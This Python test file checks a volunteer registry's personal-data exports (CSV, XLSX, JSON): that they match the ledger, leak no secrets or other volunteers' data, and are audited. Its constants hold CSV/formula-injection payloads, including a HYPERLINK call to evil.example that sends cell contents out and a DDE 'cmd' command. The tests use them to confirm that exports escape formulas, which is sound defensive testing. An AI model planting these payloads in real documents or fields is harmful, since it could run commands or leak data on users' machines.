"""A volunteer's own downloads: the whole record (CSV, XLSX) read back and compared with the ledger's rows, and the
personal-data JSON (the right of access) checked for completeness, for secrets, and for its audit entry."""
from __future__ import annotations

import base64
import codecs
import csv
import datetime as dt
import io
import json
from dataclasses import dataclass

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from volunteer_registry.accounts.services import create_api_token
from volunteer_registry.activities.services import sign_up
from volunteer_registry.audit.models import AuditEvent
from volunteer_registry.certificates.models import Certificate
from volunteer_registry.certificates.services import issue_certificate, request_certificate, today
from volunteer_registry.checkin.services import ScanRequest, record_scan
from volunteer_registry.corrections.services import report_error
from volunteer_registry.extensions import db
from volunteer_registry.ledger.models import STATES, LedgerEntry, LedgerState
from volunteer_registry.ledger.services import correct_entry, decide_entries, record_missing_service
from volunteer_registry.models import utcnow
from volunteer_registry.organizations.models import Membership, Organization
from volunteer_registry.organizations.services import apply_for_membership, decide_membership
from volunteer_registry.records.models import VolunteerRecord
from volunteer_registry.records.services import (
    AwardData,
    EvaluationData,
    TrainingData,
    record_award,
    record_evaluation,
    record_training,
    withdraw_record,
)
from volunteer_registry.reports import personal
from volunteer_registry.timeutil import local
from volunteer_registry.volunteers.models import Volunteer
from volunteer_registry.volunteers.vault import decrypt_id_number

from ..certificates.conftest import approved_service, certified  # noqa: F401  (the fixture)
from ..conftest import login

EVIL_ACTIVITY = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_COURSE = "=cmd|' /C calc'!A0"
EVIL_PROVIDER = "+Red Cross"
EVIL_NOTES = "@SUM(1+1)"
EVIL_REASON = "-not on the sign-in sheet"


@dataclass
class Scene:
    user: object
    volunteer: Volunteer
    org: Organization
    other_org: Organization
    corrected: LedgerEntry  #: approved, then corrected from 180 to 170 minutes (the correction approved)
    rejected: LedgerEntry  #: at the other organization, rejected with a reason
    certificate: Certificate
    token_plaintext: str
    outsider: Volunteer  #: another volunteer with service at the same activity
    outsider_entry: LedgerEntry



def wall(moment: dt.datetime) -> str:
    """A moment as the CSV writes it: Beijing wall time, without an offset."""
    return local(moment).replace(tzinfo=None).isoformat(timespec="seconds")

def _member(make, org, volunteer) -> Membership:
    return decide_membership(make.org_admin_of(org), apply_for_membership(make.account_of(volunteer), org), True)


@pytest.fixture
def scene(make, certified) -> Scene:  # noqa: F811
    """卓玛 of the certified fixture, with a correction, a rejection (at an activity whose title is a formula), a
    sign-up and a check-in scan, a correction request, training / award / evaluation records (one withdrawn), a
    certificate and a certificate request, an API token; and 扎西, another volunteer at the same activity."""
    org, admin, zhuoma, coordinator, (river, library) = certified
    user = make.account_of(zhuoma)
    _member(make, org, zhuoma)
    now = utcnow().replace(microsecond=0)
    first = db.session.scalars(sa.select(LedgerEntry).where(
        LedgerEntry.volunteer_id == zhuoma.id, LedgerEntry.kind == "service", LedgerEntry.activity_id == river.id)
        .order_by(LedgerEntry.id)).first()
    correct_entry(admin, first, 170, "the paper sheet said 2 h 50")
    decide_entries(coordinator, org, [first.id], "approve")  # a correction counts once another approves it

    other_org = make.org(name="=SUM(A1:A9) team")
    evil = make.activity(other_org, title=EVIL_ACTIVITY, starts_at=now - dt.timedelta(days=9),
                         ends_at=now + dt.timedelta(days=1))
    rejected = record_missing_service(make.coordinator(other_org), evil, zhuoma.id,
                                      now - dt.timedelta(days=4, hours=2), now - dt.timedelta(days=4), "paper")
    decide_entries(make.org_admin_of(other_org), other_org, [rejected.id], "reject", EVIL_REASON)

    sign_up(user, river, now=river.starts_at - dt.timedelta(days=1))
    scan = record_scan(coordinator, ScanRequest(event_id="personal-export-0001", activity_code=river.code,
                                                volunteer_number=zhuoma.volunteer_number, direction="in"))
    assert scan.accepted, scan.error
    pending = db.session.scalar(sa.select(LedgerState.entry_id).where(
        LedgerState.volunteer_id == zhuoma.id, LedgerState.status == "pending", LedgerState.organization_id == org.id))
    report_error(user, db.session.get(LedgerEntry, pending), "I stayed until the end", 150)

    day = local(now).date() - dt.timedelta(days=7)
    record_training(coordinator, org, zhuoma, TrainingData(title=EVIL_COURSE, provider=EVIL_PROVIDER, date=day,
                                                           minutes=90, notes=EVIL_NOTES))
    record_award(coordinator, org, zhuoma, AwardData(title="Volunteer of the month", provider="城东区", date=day,
                                                     level="county"))
    record_evaluation(coordinator, org, zhuoma, EvaluationData(period_start=day - dt.timedelta(days=60),
                                                               period_end=day, rating="excellent",
                                                               comment="Reliable and kind"))
    wrong = record_training(coordinator, org, zhuoma, TrainingData(title="Recorded for the wrong person",
                                                                   provider="X", date=day, minutes=30))
    withdraw_record(coordinator, wrong, "wrong volunteer")

    certificate = issue_certificate(admin, org, zhuoma, today() - dt.timedelta(days=30), today(), render=False)
    request_certificate(zhuoma, org, today() - dt.timedelta(days=12), today() - dt.timedelta(days=8),
                        note="for my school")
    _token, plaintext = create_api_token(user, "my phone")

    tashi = make.volunteer(name="扎西")
    tashi_entry = approved_service(make, library, tashi, 77, days_ago=2, recorder=coordinator, approver=admin)
    db.session.commit()
    return Scene(user=user, volunteer=zhuoma, org=org, other_org=other_org, corrected=first, rejected=rejected,
                 certificate=certificate, token_plaintext=plaintext, outsider=tashi, outsider_entry=tashi_entry)


# --- what the database says the record is, computed here from the rows --------------------------------------------

def expected_service(volunteer: Volunteer) -> list[dict]:
    """The volunteer's service entries as the download must show them, from the ledger's rows, in its order."""
    rows = db.session.execute(sa.select(LedgerState, LedgerEntry, Organization.name)
                              .join(LedgerEntry, LedgerEntry.id == LedgerState.entry_id)
                              .join(Organization, Organization.id == LedgerEntry.organization_id)
                              .where(LedgerState.volunteer_id == volunteer.id)).all()
    rows.sort(key=lambda r: (r[0].service_date, r[1].started_at, r[1].id))
    expected = []
    for state, entry, org_name in rows:
        corrected = db.session.scalar(sa.select(sa.func.count()).select_from(LedgerEntry).where(
            LedgerEntry.kind == "correction", LedgerEntry.refers_to_id == entry.id)) > 0
        decision = db.session.get(LedgerEntry, state.decided_by_entry_id) if state.decided_by_entry_id else None
        expected.append(dict(date=entry.service_date, start=local(entry.started_at), end=local(entry.ended_at),
                             activity=entry.activity_title, organization=org_name, minutes=state.minutes,
                             status=str(STATES[state.status]), recorded=entry.minutes, corrected=corrected,
                             reason=decision.reason if decision else None))
    return expected


def standing_records(volunteer: Volunteer) -> list[VolunteerRecord]:
    withdrawn = set(db.session.scalars(sa.select(VolunteerRecord.refers_to_id).where(
        VolunteerRecord.kind == "withdrawal")))
    return [r for r in db.session.scalars(sa.select(VolunteerRecord).where(
        VolunteerRecord.volunteer_id == volunteer.id, VolunteerRecord.kind != "withdrawal"))
        if r.id not in withdrawn]


def safe(text):
    """What a spreadsheet cell must hold for ``text``: a leading apostrophe before a formula's first character."""
    return "'" + text if isinstance(text, str) and text.startswith(("=", "+", "-", "@", "\t", "\r")) else text


# --- the record: CSV and XLSX --------------------------------------------------------------------------------------

# Downloads are streamed: the test client reads them within the request (buffered=True), while the request's
# context is still there, as a server would.

def read_csv(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body[len(codecs.BOM_UTF8):].decode("utf-8"))))


def test_the_csv_record_is_the_ledger_as_the_hours_page_counts_it(client, scene, monkeypatch):
    monkeypatch.setattr(personal, "BATCH", 3)  # four entries: read in two batches, the order kept across them
    login(client, scene.user)
    response = client.get("/me/record.csv", buffered=True)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="volunteer-record-{scene.volunteer.volunteer_number}-'
        f'{local(utcnow()).date().isoformat()}.csv"')
    header, *rows = read_csv(response)
    assert header[:12] == ["Kind", "Date", "Start", "End", "Activity, course or award", "Organization",
                           "Minutes that count", "Hours", "Status", "Minutes first recorded", "Corrected",
                           "Reason for the decision"]
    service = [row for row in rows if row[0] == "service"]
    expected = expected_service(scene.volunteer)
    assert len(service) == len(expected) == 4  # two approved (one corrected), one pending, one rejected
    for row, want in zip(service, expected, strict=True):
        assert row[:12] == [
            "service", want["date"].isoformat(), wall(want["start"]), wall(want["end"]), safe(want["activity"]),
            safe(want["organization"]),
            str(want["minutes"]), str(round(want["minutes"] / 60, 1)), want["status"], str(want["recorded"]),
            "yes" if want["corrected"] else "no", safe(want["reason"]) if want["reason"] else ""]
        # local (Beijing) wall time, as the pages and the XLSX show it: the UTC start plus eight hours
        utc = want["start"].astimezone(dt.UTC).replace(tzinfo=None)
        assert dt.datetime.fromisoformat(row[2]) == utc + dt.timedelta(hours=8)
    corrected = next(row for row, want in zip(service, expected, strict=True) if want["corrected"])
    assert (corrected[6], corrected[7], corrected[9]) == ("170", "2.8", "180")
    assert sum(1 for want in expected if want["corrected"]) == 1
    # the other volunteer's service at the same activity is nowhere
    assert not any(row[6] == "77" for row in rows)
    kinds = [row[0] for row in rows]
    assert kinds == ["service"] * 4 + ["training", "award", "evaluation"]
    training = rows[4]
    record = next(r for r in standing_records(scene.volunteer) if r.kind == "training")
    assert training[1] == record.date.isoformat() and training[6] == "90" and training[7] == "1.5"
    assert "Recorded for the wrong person" not in response.get_data(as_text=True)  # withdrawn


def test_the_xlsx_record_holds_the_same_rows_with_numbers_and_local_times(client, scene):
    login(client, scene.user)
    response = client.get("/me/record.xlsx", buffered=True)
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.get_data()), read_only=True).active
    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    rows = [row + [None] * (len(header) - len(row)) for row in rows]  # a row's empty cells at its end are not kept
    assert header[0] == "Kind" and header[6] == "Minutes that count"
    expected = expected_service(scene.volunteer)
    service = [row for row in rows if row[0] == "service"]
    assert len(service) == len(expected) == 4
    for row, want in zip(service, expected, strict=True):
        assert row[:12] == [
            "service", dt.datetime.combine(want["date"], dt.time()), want["start"].replace(tzinfo=None),
            want["end"].replace(tzinfo=None), safe(want["activity"]), safe(want["organization"]),
            want["minutes"], round(want["minutes"] / 60, 1), want["status"], want["recorded"],
            "yes" if want["corrected"] else "no", safe(want["reason"])]
    assert [row[0] for row in rows] == ["service"] * 4 + ["training", "award", "evaluation"]
    assert 170 in [row[6] for row in service] and 77 not in [row[6] for row in rows]


def test_formulas_in_titles_and_records_come_back_as_text(client, scene):
    login(client, scene.user)
    _header, *rows = read_csv(client.get("/me/record.csv", buffered=True))
    cells = {cell for row in rows for cell in row}
    for text in (EVIL_ACTIVITY, EVIL_COURSE, EVIL_PROVIDER, EVIL_NOTES, EVIL_REASON, scene.other_org.name):
        assert "'" + text in cells
        assert text not in cells
    workbook = load_workbook(io.BytesIO(client.get("/me/record.xlsx", buffered=True).get_data()))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in cells)  # no cell is a formula
    values = {cell.value for cell in cells}
    for text in (EVIL_ACTIVITY, EVIL_COURSE, EVIL_PROVIDER, EVIL_NOTES, EVIL_REASON):
        assert "'" + text in values


def test_the_record_in_chinese_has_chinese_headers(client, scene):
    login(client, scene.user)
    with client.session_transaction() as session:
        session["lang"] = "zh_CN"
    header, *_rows = read_csv(client.get("/me/record.csv", buffered=True))
    assert header[1:4] == ["日期", "开始", "结束"] and header[5] == "组织"  # times, not the start page


def test_unknown_formats_are_not_found(client, scene):
    login(client, scene.user)
    assert client.get("/me/record.pdf").status_code == 404
    assert client.get("/me/record.json").status_code == 404


# --- the personal data: JSON ----------------------------------------------------------------------------------------

def walk_keys(value):
    if isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from walk_keys(item)
    elif isinstance(value, list):
        for item in value:
            yield from walk_keys(item)


def id_views(volunteer) -> list[AuditEvent]:
    return list(db.session.scalars(sa.select(AuditEvent).where(
        AuditEvent.action == "volunteer.id_number_viewed", AuditEvent.target_type == "Volunteer",
        AuditEvent.target_id == str(volunteer.id)).order_by(AuditEvent.id)))


def test_the_data_download_holds_everything_about_the_person(client, scene):
    login(client, scene.user)
    volunteer = scene.volunteer
    response = client.post("/me/data.json")
    assert response.status_code == 200
    assert response.mimetype == "application/json"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="my-data-{local(utcnow()).date().isoformat()}.json"')
    text = response.get_data(as_text=True)
    data = json.loads(text)

    assert data["account"]["email"] == scene.user.email
    assert data["account"]["created_at"].endswith("+00:00")
    assert [t["name"] for t in data["account"]["api_tokens"]] == ["my phone"]
    # what they were told, with the addresses the copies went to, and their choices
    told = {message["kind"]: message for message in data["notifications"]["messages"]}
    assert {"signup.decided", "entry.decided"} <= set(told)
    assert [(d["channel"], d["to"], d["status"]) for d in told["entry.decided"]["deliveries"]] == [
        ("email", scene.user.email, "pending")]
    assert data["notifications"]["preferences"] == []
    assert set(data["account"]["api_tokens"][0]) == {"id", "name", "created_at", "last_used_at", "revoked_at"}
    mine = data["volunteer"]
    full_number = decrypt_id_number(volunteer.id_number_encrypted)
    assert mine["profile"]["id_number"] == full_number
    assert mine["profile"]["volunteer_number"] == volunteer.volunteer_number
    assert mine["profile"]["birth_date"] == volunteer.birth_date.isoformat()
    assert mine["consents"]["consent_source"] == "self" and mine["consents"]["consent_at"]

    memberships = db.session.scalars(sa.select(Membership).where(Membership.volunteer_id == volunteer.id)).all()
    assert memberships
    assert {(m["id"], m["status"], m["organization"]["code"]) for m in mine["memberships"]} == {
        (m.id, m.status, m.organization.code) for m in memberships}
    entries = db.session.scalars(sa.select(LedgerEntry).where(LedgerEntry.volunteer_id == volunteer.id)).all()
    assert {e["id"] for e in mine["ledger_entries"]} == {e.id for e in entries}
    assert {e.kind for e in entries} >= {"service", "approval", "rejection", "correction", "certificate"}
    by_id = {e["id"]: e for e in mine["ledger_entries"]}
    assert by_id[scene.corrected.id]["state"]["minutes"] == 170 and by_id[scene.corrected.id]["minutes"] == 180
    assert by_id[scene.rejected.id]["state"]["status"] == "rejected"
    codes = db.session.scalars(sa.select(Certificate.code).where(Certificate.volunteer_id == volunteer.id)).all()
    assert codes == [scene.certificate.code]
    assert [c["code"] for c in mine["certificates"]] == codes
    assert [r["note"] for r in mine["certificate_requests"]] == ["for my school"]
    assert len(mine["signups"]) == 1 and len(mine["scans"]) == 1 and len(mine["attendance_sessions"]) == 1
    assert [r["claimed_minutes"] for r in mine["correction_requests"]] == [150]
    assert sorted(r["kind"] for r in mine["records"]) == ["award", "evaluation", "training", "training",
                                                          "withdrawal"]

    # no secret, anywhere: neither as a key nor as a value
    keys = set(walk_keys(data))
    assert not keys & {"password_hash", "session_nonce", "token_hash", "id_number_hash", "id_number_encrypted"}
    assert scene.user.password_hash not in text
    assert scene.user.session_nonce not in text
    assert volunteer.id_number_hash not in text
    assert base64.b64encode(volunteer.id_number_encrypted).decode() not in text
    assert scene.token_plaintext not in text
    # another volunteer: not their entries, not their ID number
    assert scene.outsider_entry.id not in {e["id"] for e in mine["ledger_entries"]}
    assert decrypt_id_number(scene.outsider.id_number_encrypted) not in text
    assert text.count(full_number) == 1  # once, in the profile

    # the full-ID view is in the audit log (committed), and in the download itself
    views = id_views(volunteer)
    assert len(views) == 1
    assert views[0].actor_id == scene.user.id and views[0].details["own"] is True
    assert views[0].details["purpose"] == "personal data export"
    audit_ids = {event["id"] for event in data["audit_events"]}
    assert views[0].id in audit_ids
    actions = {event["action"] for event in data["audit_events"]}
    assert {"account.created", "volunteer.registered", "membership.approved", "record.training",
            "ledger.correction_requested", "certificate.issued", "api_token.created"} <= actions
    # another person's address is theirs; the person's own actions keep it
    for event in data["audit_events"]:
        assert ("ip_address" in event) == (event["actor_id"] == scene.user.id)

    client.post("/me/data.json")
    assert len(id_views(volunteer)) == 2  # every download is a view


def test_a_person_without_a_volunteer_profile_gets_the_account_and_no_record(client, make):
    user = make.user()
    create_api_token(user, "script")
    db.session.commit()
    login(client, user)
    response = client.post("/me/data.json")
    assert response.status_code == 200
    data = response.get_json()
    assert data["account"]["email"] == user.email and data["volunteer"] is None
    assert user.password_hash not in response.get_data(as_text=True)
    assert {event["action"] for event in data["audit_events"]} == {"account.created", "api_token.created"}
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditEvent).where(
        AuditEvent.action == "volunteer.id_number_viewed")) == 0

    for url in ("/me/record.csv", "/me/record.xlsx"):
        response = client.get(url, buffered=True)
        assert response.status_code == 302
        assert response.headers["Location"].endswith("/volunteer/profile")
        with client.session_transaction() as session:
            assert ("info", "Complete your volunteer profile first.") in session.pop("_flashes")


@pytest.mark.parametrize(("method", "url"), [("GET", "/me/record.csv"), ("GET", "/me/record.xlsx"),
                                             ("POST", "/me/data.json")])
def test_anonymous_visitors_are_sent_to_sign_in(client, method, url):
    response = client.open(url, method=method, buffered=True)
    assert response.status_code == 302
    assert "/login" in response.headers["Location"]
